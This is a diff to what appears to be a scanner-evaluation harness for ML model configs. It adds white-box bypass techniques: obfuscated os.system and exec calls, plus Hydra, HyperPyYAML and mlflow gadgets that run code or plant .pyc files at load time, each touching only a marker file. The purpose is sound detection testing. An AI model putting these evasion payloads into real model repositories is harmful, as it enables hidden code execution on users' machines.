@@ -115,19 +115,27 @@ class Technique:
     build: Callable[[Path, Path], Path]
     """``build(workdir, marker)`` writes the sample and returns the path to scan."""
     live: LiveCheck | None
+    group: str = "held-out"
+    """``held-out``: written before openward's analysers were read; ``phase-2``: found
+    afterwards by reading them (white-box bypasses, kept as regressions)."""
 
 
 TECHNIQUES: list[Technique] = []
 
 
 def technique(
-    id: str, family: str, loader: str, source: str, live: LiveCheck | None
+    id: str,
+    family: str,
+    loader: str,
+    source: str,
+    live: LiveCheck | None,
+    group: str = "held-out",
 ) -> Callable[[Callable[[Path, Path], Path]], Callable[[Path, Path], Path]]:
     """Register a builder; its docstring is the technique's description."""
 
     def register(build: Callable[[Path, Path], Path]) -> Callable[[Path, Path], Path]:
-        doc = textwrap.dedent(build.__doc__ or "").strip()
-        TECHNIQUES.append(Technique(id, family, loader, " ".join(doc.split()), source, build, live))
+        doc = " ".join(textwrap.dedent(build.__doc__ or "").split())
+        TECHNIQUES.append(Technique(id, family, loader, doc, source, build, live, group))
         return build
 
     return register
@@ -1803,6 +1811,215 @@ def pandas_fixed(d: Path, marker: Path) -> Path:
     return path
 
 
+# --- phase 2: white-box bypasses found by reading the analysers ----------------
+# Added after the untuned table was recorded; each is also a regression test
+# (tests/scanning/test_config_attacks.py).
+
+P2 = "phase-2"
+SPEECHBRAIN = LOADERS / "speechbrain"
+
+
+def _p2_remote(name: str, source: str, why: str) -> None:
+    def build(d: Path, marker: Path) -> Path:
+        return remote_config_repo(d, source.format(cmd=touch_cmd(marker), marker=marker))
+
+    build.__doc__ = why
+    technique(
+        f"p2-rc-{name}",
+        "remote-code",
+        RC_LOADER,
+        "white-box: a gap in openward's Python data flow",
+        REMOTE_LIVE,
+        P2,
+    )(build)
+
+
+_p2_remote(
+    "dict-dispatch",
+    'import os\n\nHANDLERS = {{"run": os.system}}\nHANDLERS["run"]("{cmd}")\n',
+    "A primitive stored in a dict and called through a subscript.",
+)
+_p2_remote(
+    "class-attribute",
+    'import os\n\n\nclass Launcher:\n    run = os.system\n\n\nLauncher.run("{cmd}")\n',
+    "A primitive bound in a class body and called as a class attribute.",
+)
+_p2_remote(
+    "default-parameter",
+    'import os\n\n\ndef go(cmd, runner=os.system):\n    runner(cmd)\n\n\ngo("{cmd}")\n',
+    "A primitive reached through a parameter's default value.",
+)
+_p2_remote(
+    "frame-builtins",
+    'import sys\n\nsys._getframe().f_builtins["ex" + "ec"]("import os; os.system(\'{cmd}\')")\n',
+    "exec taken from a frame's f_builtins.",
+)
+_p2_remote(
+    "builtin-self",
+    "print.__self__.exec(\"import os; os.system('{cmd}')\")\n",
+    "The builtins module reached as print.__self__.",
+)
+_p2_remote(
+    "timeit",
+    "import timeit\n\ntimeit.timeit(\"import os; os.system('{cmd}')\", number=1)\n",
+    "timeit runs its statement string.",
+)
+_p2_remote(
+    "breakpointhook",
+    'import os\nimport sys\n\nsys.breakpointhook = os.system\nbreakpoint("{cmd}")\n',
+    "A primitive stored into an interpreter hook, then triggered.",
+)
+
+HYDRA_P2 = "hydra-core 1.3.8 instantiate(cfg.model.x): a gadget inside a library openward trusted"
+
+
+@technique(
+    "p2-hydra-benchmark-timer",
+    "hydra",
+    HYDRA_P2,
+    "white-box: torch was a trusted namespace; torch.utils.benchmark.Timer runs stmt",
+    hydra_live("1.3.8", "model.x"),
+    P2,
+)
+def p2_timer(d: Path, marker: Path) -> Path:
+    """Nested targets ``Timer.timeit(Timer(stmt=...), 1)``."""
+    stmt = f"import os; os.system('{touch_cmd(marker)}')"
+    return write(
+        d / "config.yaml",
+        "model:\n  x:\n    _target_: torch.utils.benchmark.Timer.timeit\n    _args_:\n"
+        "      - _target_: torch.utils.benchmark.Timer\n"
+        f"        stmt: {json.dumps(stmt)}\n      - 1\n",
+    )
+
+
+@technique(
+    "p2-hydra-torchrun",
+    "hydra",
+    HYDRA_P2,
+    "white-box: torch.distributed.run.main (torchrun) in a trusted namespace",
+    hydra_live("1.3.8", "model.x"),
+    P2,
+)
+def p2_torchrun(d: Path, marker: Path) -> Path:
+    """``torch.distributed.run.main`` launching ``prepare.py`` shipped with the config."""
+    repo = d / "repo"
+    write(repo / "prepare.py", f"open({str(marker)!r}, 'w').close()\n")
+    return write(
+        repo / "config.yaml",
+        "model:\n  x:\n    _target_: torch.distributed.run.main\n    _args_:\n"
+        f'      - ["--nproc_per_node=1", "--master_port=29561", "{repo / "prepare.py"}"]\n',
+    ).parent
+
+
+@technique(
+    "p2-hydra-storage-from-file",
+    "hydra",
+    HYDRA_P2,
+    "white-box: torch.UntypedStorage.from_file(shared=True) in a trusted namespace "
+    "(issue 12 names torch.from_file as a write primitive)",
+    hydra_live("1.3.8", "model.x"),
+    P2,
+)
+def p2_from_file(d: Path, marker: Path) -> Path:
+    """Creates (or truncates) any file."""
+    return write(
+        d / "config.yaml",
+        "model:\n  x:\n    _target_: torch.UntypedStorage.from_file\n"
+        f'    filename: "{marker}"\n    shared: true\n    nbytes: 8\n',
+    )
+
+
+@technique(
+    "p2-hydra-operator-call",
+    "hydra",
+    "hydra-core 1.3.2 instantiate(cfg.model.x)",
+    "white-box: operator was a trusted namespace; operator.call of a bound stdlib helper "
+    "(the bound helper alone was only medium)",
+    hydra_live("1.3.2", "model.x"),
+    P2,
+)
+def p2_operator_call(d: Path, marker: Path) -> Path:
+    """``operator.call(partial(uuid._get_command_stdout), 'touch', MARKER)``."""
+    return write(
+        d / "config.yaml",
+        "model:\n  x:\n    _target_: operator.call\n    _args_:\n"
+        "      - _target_: uuid._get_command_stdout\n        _partial_: true\n"
+        f'      - touch\n      - "{marker}"\n',
+    )
+
+
+@technique(
+    "p2-hyperpyyaml-run-shell",
+    "hyperpyyaml",
+    SB_LOADER + " with speechbrain 1.x installed (torchaudio stubbed: the gadget does not use it)",
+    "white-box: speechbrain was a trusted namespace; speechbrain.utils.superpowers.run_shell",
+    LiveCheck(
+        "import sys\nfrom unittest import mock\nsys.modules['torchaudio'] = mock.MagicMock()\n"
+        + HYPERPYYAML_LIVE.code,
+        (SPEECHBRAIN,),
+    ),
+    P2,
+)
+def p2_run_shell(d: Path, marker: Path) -> Path:
+    """SpeechBrain's own shell helper called from hyperparams.yaml."""
+    return write(
+        d / "hyperparams.yaml",
+        "sample_rate: 16000\n"
+        f'x: !apply:speechbrain.utils.superpowers.run_shell ["{touch_cmd(marker)}"]\n',
+    )
+
+
+@technique(
+    "p2-hyperpyyaml-compiled-module",
+    "hyperpyyaml",
+    SB_LOADER + "; the model folder is on sys.path (custom interfaces)",
+    "white-box: a module shipped with the config was low, even as a .pyc without source",
+    HYPERPYYAML_LIVE,
+    P2,
+)
+def p2_compiled_module(d: Path, marker: Path) -> Path:
+    """``!new:custom_interface.Model`` where only ``custom_interface.pyc`` ships."""
+    import py_compile
+
+    repo = d / "repo"
+    write(repo / "hyperparams.yaml", "sample_rate: 16000\nmodel: !new:custom_interface.Model\n")
+    source = write(d / "custom_interface.py", f"import os\nos.system({touch_cmd(marker)!r})\n")
+    source.write_text(source.read_text() + "\n\nclass Model:\n    pass\n")
+    py_compile.compile(str(source), cfile=str(repo / "custom_interface.pyc"), doraise=True)
+    source.unlink()
+    return repo
+
+
+@technique(
+    "p2-mlflow-pyc-shadow",
+    "mlflow",
+    "mlflow-skinny 3.18 load_model of a built-in pytorch-flavor model: code/ goes first on "
+    "sys.path, then mlflow.pytorch imports torch",
+    "white-box: code directories were medium whatever they held",
+    MLFLOW_LIVE,
+    P2,
+)
+def p2_mlflow_shadow(d: Path, marker: Path) -> Path:
+    """``code/torch.pyc`` (no source) shadows torch for the built-in ``mlflow.pytorch``."""
+    import py_compile
+
+    repo = d / "repo"
+    mlmodel(
+        repo,
+        {
+            "loader_module": "mlflow.pytorch",
+            "data": "data",
+            "code": "code",
+            "pickle_module_name": "mlflow.pytorch.pickle_module",
+        },
+    )
+    (repo / "data").mkdir()
+    source = write(d / "torch.py", f"import os\nos.system({touch_cmd(marker)!r})\n")
+    py_compile.compile(str(source), cfile=str(repo / "code" / "torch.pyc"), doraise=True)
+    source.unlink()
+    return repo
+
+
 # ---------------------------------------------------------------------------
 # Liveness
 # ---------------------------------------------------------------------------
@@ -1863,6 +2080,7 @@ _RANK = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
 @dataclass
 class Result:
     id: str
+    group: str
     family: str
     loader: str
     description: str
@@ -1874,11 +2092,21 @@ class Result:
     details: dict[str, str] = field(default_factory=dict)
 
 
-def scan_openward(target: Path, scratch: Path) -> tuple[bool, str]:
-    from scan_peers import OPENWARD_BIN, run
+def scan_openward(target: Path, scratch: Path, src: Path) -> tuple[bool, str]:
+    """``python -m openward scan TARGET --json`` with the code under ``src`` first on the path
+    (this checkout's by default, so a branch is measured by its own code)."""
+    from scan_peers import TIMEOUT_S, tool_env
 
-    proc = run([str(OPENWARD_BIN), "scan", str(target), "--json"], cwd=scratch)
-    if proc.rc is None:
+    try:
+        proc = subprocess.run(
+            [str(PYTHON), "-m", "openward", "scan", str(target), "--json"],
+            cwd=scratch,
+            env={**tool_env(), "PYTHONPATH": str(src)},
+            capture_output=True,
+            text=True,
+            timeout=TIMEOUT_S,
+        )
+    except subprocess.TimeoutExpired:
         return False, "timeout"
     try:
         findings = json.loads(proc.stdout)["findings"]
@@ -1911,14 +2139,14 @@ def scan_peer(name: str, target: Path, scratch: Path) -> tuple[bool, str]:
 # ---------------------------------------------------------------------------
 
 
-def versions() -> dict[str, str]:
+def versions(src: Path) -> dict[str, str]:
     from importlib.metadata import version
 
     from scan_peers import PEER_BIN
 
     out = {"python": platform.python_version(), "openward": version("openward")}
     commit = subprocess.run(
-        ["git", "-C", str(REPO), "rev-parse", "--short", "HEAD"], capture_output=True, text=True
+        ["git", "-C", str(src), "rev-parse", "--short", "HEAD"], capture_output=True, text=True
     ).stdout.strip()
     out["openward commit"] = commit
     for lib in (
@@ -1956,20 +2184,26 @@ def markdown(results: list[Result], tools: list[str], meta: dict[str, Any]) -> s
         "",
         "Versions: " + ", ".join(f"{k} {v}" for k, v in meta["versions"].items()),
         "",
-        "| technique | family | live | " + " | ".join(tools) + " |",
-        "|---|---|---|" + "---|" * len(tools),
+        "| technique | group | family | live | " + " | ".join(tools) + " |",
+        "|---|---|---|---|" + "---|" * len(tools),
     ]
     for r in results:
         cells = ["✓" if r.detections.get(t) else "✗" for t in tools]
-        lines.append(f"| {r.id} | {r.family} | {r.live} | " + " | ".join(cells) + " |")
-    live = [r for r in results if r.live == "live"]
-    lines += ["", f"Totals over {len(results)} techniques ({len(live)} proven live here):", ""]
-    for t in tools:
-        all_hits = sum(bool(r.detections.get(t)) for r in results)
-        live_hits = sum(bool(r.detections.get(t)) for r in live)
-        lines.append(
-            f"- {t}: {all_hits}/{len(results)} detected ({live_hits}/{len(live)} of the live)"
-        )
+        lines.append(f"| {r.id} | {r.group} | {r.family} | {r.live} | " + " | ".join(cells) + " |")
+    for group in sorted({r.group for r in results}):
+        members = [r for r in results if r.group == group]
+        live = [r for r in members if r.live == "live"]
+        lines += [
+            "",
+            f"Totals, {group} ({len(members)} techniques, {len(live)} proven live here):",
+            "",
+        ]
+        for t in tools:
+            all_hits = sum(bool(r.detections.get(t)) for r in members)
+            live_hits = sum(bool(r.detections.get(t)) for r in live)
+            lines.append(
+                f"- {t}: {all_hits}/{len(members)} detected ({live_hits}/{len(live)} of the live)"
+            )
     lines += ["", "Details (what each tool reported):", ""]
     for r in results:
         lines.append(f"- **{r.id}** ({r.live}{': ' + r.live_detail if r.live_detail else ''})")
@@ -1987,6 +2221,13 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--no-scan", action="store_true")
     parser.add_argument("--tools", default="openward,modelaudit,modelscan,picklescan,fickling")
     parser.add_argument("--only", default="")
+    parser.add_argument("--group", default="", help="held-out or phase-2 (default: both)")
+    parser.add_argument(
+        "--openward-src",
+        type=Path,
+        default=REPO / "src",
+        help="openward sources to scan with (default: this checkout's)",
+    )
     parser.add_argument("--label", default="untuned")
     parser.add_argument("--list", action="store_true")
     args = parser.parse_args(argv)
@@ -1995,6 +2236,8 @@ def main(argv: list[str] | None = None) -> int:
     if args.only:
         wanted = set(args.only.split(","))
         techniques = [t for t in TECHNIQUES if t.id in wanted]
+    if args.group:
+        techniques = [t for t in techniques if t.group == args.group]
     if args.list:
         for t in techniques:
             print(f"{t.id:40} {t.family:14} {t.description}")
@@ -2017,6 +2260,7 @@ def main(argv: list[str] | None = None) -> int:
             results.append(
                 Result(
                     tech.id,
+                    tech.group,
                     tech.family,
                     tech.loader,
                     tech.description,
@@ -2032,7 +2276,7 @@ def main(argv: list[str] | None = None) -> int:
             for (tech, target, _marker), res in zip(built, results, strict=True):
                 for tool in tools:
                     hit, detail = (
-                        scan_openward(target, scratch)
+                        scan_openward(target, scratch, args.openward_src)
                         if tool == "openward"
                         else scan_peer(tool, target, scratch)
                     )
@@ -2051,7 +2295,7 @@ def main(argv: list[str] | None = None) -> int:
     meta = {
         "label": args.label,
         "date": datetime.date.today().isoformat(),
-        "versions": versions(),
+        "versions": versions(args.openward_src),
         "machine": f"{platform.machine()} {os.cpu_count()} CPUs",
     }
     (args.out / "config_techniques.json").write_text(
